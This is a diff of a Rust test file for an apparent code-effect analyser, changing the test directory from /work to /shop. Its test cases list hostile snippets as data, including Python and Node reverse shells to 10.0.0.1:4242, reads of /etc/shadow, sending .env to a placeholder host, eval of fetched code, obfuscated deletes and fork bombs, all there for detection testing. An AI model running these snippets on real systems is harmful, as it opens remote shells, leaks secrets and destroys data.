@@ -7,7 +7,7 @@ use crate::world::World;
 
 /// What code does: programs as `$ words`, effects as lines, what it prints after `>`.
 fn judged(language: Language, text: &str) -> String {
-    let world = World { cwd: Some("/work"), home: Some("/home/me"), ..World::default() };
+    let world = World { cwd: Some("/shop"), home: Some("/home/me"), ..World::default() };
     let mut machine = Machine::new(&world, "");
     let argv = [Field::text("code", Span::default())];
     let mut call = Call {
@@ -116,12 +116,12 @@ fn python_changes_files() {
             ("import os; os.remove('/etc/passwd')", "delete remove /etc/passwd certain"),
             (
                 "import shutil; shutil.rmtree('build', ignore_errors=True)",
-                "delete remove /work/build certain -r -f",
+                "delete remove /shop/build certain -r -f",
             ),
-            ("import os; os.rmdir('x')", "delete remove-empty-directory /work/x certain"),
+            ("import os; os.rmdir('x')", "delete remove-empty-directory /shop/x certain"),
             (
                 "from pathlib import Path; Path('a').joinpath('b').unlink(missing_ok=True)",
-                "delete remove /work/a/b certain",
+                "delete remove /shop/a/b certain",
             ),
             (
                 "from pathlib import Path; (Path.home() / '.ssh' / 'id').unlink()",
@@ -138,7 +138,7 @@ fn python_changes_files() {
             ),
             (
                 "import os,glob; [os.remove(f) for f in glob.glob('*.tmp')]",
-                "delete remove /work/*.tmp possible",
+                "delete remove /shop/*.tmp possible",
             ),
             ("import os; os.remove(name)", "delete remove name possible"),
             (
@@ -148,27 +148,27 @@ fn python_changes_files() {
             ("open('/etc/hosts', 'w').write('x')", "overwrite write-file /etc/hosts certain"),
             (
                 "with open('log', 'a') as f:\n    f.write('x')",
-                "append append-file /work/log certain",
+                "append append-file /shop/log certain",
             ),
             ("print(open('/etc/shadow').read())", "read read-file /etc/shadow certain"),
             (
                 "import pathlib; pathlib.Path('x').write_text('y')",
-                "overwrite write-file /work/x certain",
+                "overwrite write-file /shop/x certain",
             ),
             (
                 "import os; os.rename('a', 'b')",
-                "move move /work/a certain | write move /work/b certain <[File(\"/work/a\")]",
+                "move move /shop/a certain | write move /shop/b certain <[File(\"/shop/a\")]",
             ),
             (
                 "import shutil; shutil.copy('a', 'b')",
-                "read copy /work/a certain | write copy /work/b certain <[File(\"/work/a\")]",
+                "read copy /shop/a certain | write copy /shop/b certain <[File(\"/shop/a\")]",
             ),
             ("import os; os.chmod('/x', 0o777)", "permission world-writable /x certain"),
             ("import os; os.chmod('/x', 0o644)", "permission mode /x certain"),
             ("import os; os.chdir('/y'); os.remove('x')", "delete remove /y/x certain"),
             (
                 "import os\nif os.path.exists('x'):\n    os.remove('x')\nos.remove('y')",
-                "delete remove /work/x possible | delete remove /work/y certain",
+                "delete remove /shop/x possible | delete remove /shop/y certain",
             ),
             ("import os\nos.kill(1, 9)", "process kill 1 certain"),
             ("import os\nwhile True: os.fork()", "process fork-bomb  certain"),
@@ -192,7 +192,7 @@ fn python_talks_to_the_network() {
             ),
             (
                 "import requests; d = open('k').read(); requests.get('http://h/?q=' + d)",
-                "read read-file /work/k certain | receive http http://h/?q=… possible | send http http://h/?q=… possible <[File(\"/work/k\")]",
+                "read read-file /shop/k certain | receive http http://h/?q=… possible | send http http://h/?q=… possible <[File(\"/shop/k\")]",
             ),
             (
                 "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
@@ -217,7 +217,7 @@ fn python_text_is_not_code() {
             ("import re; re.compile('rm -rf /')", ""),
             ("model.eval(); df.remove('x'); items.remove(3); d.pop('x')", ""),
             ("import json,sys; print(json.load(sys.stdin)['a'])", ""),
-            ("import os; print(os.path.join('a', 'b'), os.getcwd())", "> a/b /work"),
+            ("import os; print(os.path.join('a', 'b'), os.getcwd())", "> a/b /shop"),
             ("import base64; print(base64.b64decode('cm0gLXJmIC8=').decode())", "> rm -rf /"),
             ("def system(c): pass\nsystem('rm -rf /')", ""),
             ("x = 'a' if y else 'b'", ""),
@@ -253,7 +253,7 @@ fn javascript() {
             ),
             (
                 "const fs = require('fs'); fs.unlinkSync('a'); fs.rmdirSync('b', {recursive:true})",
-                "delete remove /work/a certain | delete remove /work/b certain -r",
+                "delete remove /shop/a certain | delete remove /shop/b certain -r",
             ),
             (
                 "import('fs/promises').then(m => m.rm('/x', {recursive: true}))",
@@ -261,14 +261,14 @@ fn javascript() {
             ),
             (
                 "import fs from 'node:fs'; await fs.promises.unlink('a')",
-                "delete remove /work/a certain",
+                "delete remove /shop/a certain",
             ),
             (
                 "const fs=require('fs');fs.readdirSync('.').forEach(f => fs.unlinkSync('./d/' + f))",
-                "delete remove /work/d/… possible",
+                "delete remove /shop/d/… possible",
             ),
-            ("require('fs').writeFileSync('a', 'b')", "overwrite write-file /work/a certain"),
-            ("require('fs').appendFileSync('a', 'b')", "append append-file /work/a certain"),
+            ("require('fs').writeFileSync('a', 'b')", "overwrite write-file /shop/a certain"),
+            ("require('fs').appendFileSync('a', 'b')", "append append-file /shop/a certain"),
             (
                 "console.log(require('fs').readFileSync('/etc/shadow','utf8'))",
                 "read read-file /etc/shadow certain",
@@ -279,15 +279,15 @@ fn javascript() {
             ),
             (
                 "fetch('http://h', {method: 'POST', body: require('fs').readFileSync('.env')})",
-                "read read-file /work/.env certain | send http http://h certain <[File(\"/work/.env\")]",
+                "read read-file /shop/.env certain | send http http://h certain <[File(\"/shop/.env\")]",
             ),
             (
                 "eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCdhJyk=', 'base64').toString())",
-                "delete remove /work/a certain | execute decoded-code  certain <[Decoded]",
+                "delete remove /shop/a certain | execute decoded-code  certain <[Decoded]",
             ),
             (
                 "new Function('require(\"fs\").unlinkSync(\"a\")')()",
-                "delete remove /work/a certain",
+                "delete remove /shop/a certain",
             ),
             ("require('child_process').exec(String.fromCharCode(105,100))", "$ id"),
             ("Bun.$`rm -rf /x`", "$ rm -rf /x"),
@@ -299,7 +299,7 @@ fn javascript() {
             ("// require('fs').unlinkSync('a')\n/* eval('x') */ console.log('rm')", "> rm"),
             ("const s = 'require(\"child_process\").exec(\"id\")'", ""),
             ("console.log(JSON.stringify({a: 1}))", ""),
-            ("if (x) { require('fs').unlinkSync('a') }", "delete remove /work/a possible"),
+            ("if (x) { require('fs').unlinkSync('a') }", "delete remove /shop/a possible"),
             (
                 "var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4242,'10.0.0.1',function(){c.pipe(sh.stdin)})",
                 "$ /bin/sh | receive connect 10.0.0.1:4242 certain | execute network-shell 10.0.0.1:4242 certain <[Network(\"10.0.0.1:4242\")]",
@@ -320,9 +320,9 @@ fn perl() {
             ("my $o = qx{rm -rf /x};", "$ rm -rf /x"),
             ("$c='rm'; $d=\"-rf\"; system(\"$c $d /x\")", "$ rm -rf /x"),
             ("system('r' . 'm x')", "$ rm x"),
-            ("unlink 'a', 'b'", "delete remove /work/a certain | delete remove /work/b certain"),
-            ("unlink glob('*.o')", "delete remove /work/*.o possible"),
-            ("unlink <*.o>", "delete remove /work/*.o possible"),
+            ("unlink 'a', 'b'", "delete remove /shop/a certain | delete remove /shop/b certain"),
+            ("unlink glob('*.o')", "delete remove /shop/*.o possible"),
+            ("unlink <*.o>", "delete remove /shop/*.o possible"),
             ("unlink $_ for <*.o>", "delete remove _ possible"),
             ("use File::Path; rmtree('/x')", "delete remove /x certain -r"),
             (
@@ -330,16 +330,16 @@ fn perl() {
                 "delete remove /x certain -r | delete remove /y certain -r",
             ),
             ("open(F, '>', '/etc/hosts'); print F 'x'", "overwrite write-file /etc/hosts certain"),
-            ("open(F, \">>log\")", "append append-file /work/log certain"),
+            ("open(F, \">>log\")", "append append-file /shop/log certain"),
             ("open(my $f, '<', '/etc/shadow'); print <$f>", "read read-file /etc/shadow certain"),
             ("open(P, 'rm -rf /x |')", "$ rm -rf /x"),
             (
                 "rename 'a', 'b'",
-                "move move /work/a certain | write move /work/b certain <[File(\"/work/a\")]",
+                "move move /shop/a certain | write move /shop/b certain <[File(\"/shop/a\")]",
             ),
             (
                 "chmod 0777, 'a', 'b'",
-                "permission world-writable /work/a certain | permission world-writable /work/b certain",
+                "permission world-writable /shop/a certain | permission world-writable /shop/b certain",
             ),
             ("kill 9, 1", "process kill 1 certain"),
             ("fork while fork", "process fork-bomb  certain"),
@@ -372,16 +372,16 @@ fn ruby() {
             ("FileUtils.rm_rf('/x')", "delete remove /x certain -r"),
             (
                 "require 'fileutils'; FileUtils.rm_rf %w[a b]",
-                "delete remove /work/a certain -r | delete remove /work/b certain -r",
+                "delete remove /shop/a certain -r | delete remove /shop/b certain -r",
             ),
             (
                 "File.delete('a', 'b')",
-                "delete remove /work/a certain | delete remove /work/b certain",
+                "delete remove /shop/a certain | delete remove /shop/b certain",
             ),
-            ("Dir.glob('*.o').each { |f| File.delete(f) }", "delete remove /work/*.o possible"),
-            ("Dir['*.o'].each do |f|\n  File.unlink f\nend", "delete remove /work/*.o possible"),
-            ("File.write('a', 'b')", "overwrite write-file /work/a certain"),
-            ("File.open('a', 'w') { |f| f.puts 'x' }", "overwrite write-file /work/a certain"),
+            ("Dir.glob('*.o').each { |f| File.delete(f) }", "delete remove /shop/*.o possible"),
+            ("Dir['*.o'].each do |f|\n  File.unlink f\nend", "delete remove /shop/*.o possible"),
+            ("File.write('a', 'b')", "overwrite write-file /shop/a certain"),
+            ("File.open('a', 'w') { |f| f.puts 'x' }", "overwrite write-file /shop/a certain"),
             ("puts File.read('/etc/shadow')", "read read-file /etc/shadow certain"),
             (
                 "require 'net/http'; eval(Net::HTTP.get(URI('http://h/x')))",
@@ -411,10 +411,10 @@ fn php() {
             ("`id`;", "$ id"),
             ("$f = 'sys'.'tem'; $f('id');", "$ id"),
             ("call_user_func('system', 'id');", "$ id"),
-            ("unlink('a');", "delete remove /work/a certain"),
+            ("unlink('a');", "delete remove /shop/a certain"),
             ("array_map('unlink', glob('/x/*'));", "delete remove /x/* possible"),
-            ("foreach (glob('*.o') as $f) { unlink($f); }", "delete remove /work/*.o possible"),
-            ("file_put_contents('a', 'b');", "overwrite write-file /work/a certain"),
+            ("foreach (glob('*.o') as $f) { unlink($f); }", "delete remove /shop/*.o possible"),
+            ("file_put_contents('a', 'b');", "overwrite write-file /shop/a certain"),
             (
                 "eval(file_get_contents('http://h/x'));",
                 "receive http http://h/x certain | execute network-code code certain <[Network(\"http://h/x\")]",
@@ -439,9 +439,9 @@ fn lua_and_others() {
             ("os.execute [[rm -rf /x]]", "$ rm -rf /x"),
             ("io.popen('id'):read('*a')", "$ id"),
             ("os['exe'..'cute']('id')", "$ id"),
-            ("os.remove('a')", "delete remove /work/a certain"),
+            ("os.remove('a')", "delete remove /shop/a certain"),
             ("load('os.execute(\"id\")')()", "$ id"),
-            ("io.open('a','w'):write('x')", "overwrite write-file /work/a certain"),
+            ("io.open('a','w'):write('x')", "overwrite write-file /shop/a certain"),
             ("-- os.remove('a')\nprint('x')", "> x"),
         ],
     );
@@ -456,7 +456,7 @@ fn lua_and_others() {
             ("run(`rm -rf /x`)", "$ rm -rf /x"),
             ("println \"rm -rf /x\".execute().text", "$ rm -rf /x"),
             ("import sys.process._; \"rm -rf /x\".!", "$ rm -rf /x"),
-            ("unlink('build', recursive=TRUE)", "delete remove /work/build certain -r"),
+            ("unlink('build', recursive=TRUE)", "delete remove /shop/build certain -r"),
             ("rm(list=ls())", ""),
             ("File.rm_rf!(\"/x\")", "delete remove /x certain -r"),
             ("Runtime.getRuntime().exec(\"id\")", "$ id"),
@@ -479,8 +479,8 @@ fn awk() {
             ("BEGIN { print \"rm -rf /x\" | \"sh\" }", "$ rm -rf /x"),
             ("BEGIN { \"id -u\" | getline u; print u }", "$ id -u"),
             ("BEGIN { while ((\"ls\" | getline f) > 0) print f }", "$ ls"),
-            ("{ print $1 > \"out\" }", "overwrite write-file /work/out certain"),
-            ("{ print >> \"out\" }", "append append-file /work/out certain"),
+            ("{ print $1 > \"out\" }", "overwrite write-file /shop/out certain"),
+            ("{ print >> \"out\" }", "append append-file /shop/out certain"),
             ("{ print > \"/dev/stderr\" }", ""),
             (
                 "BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }",
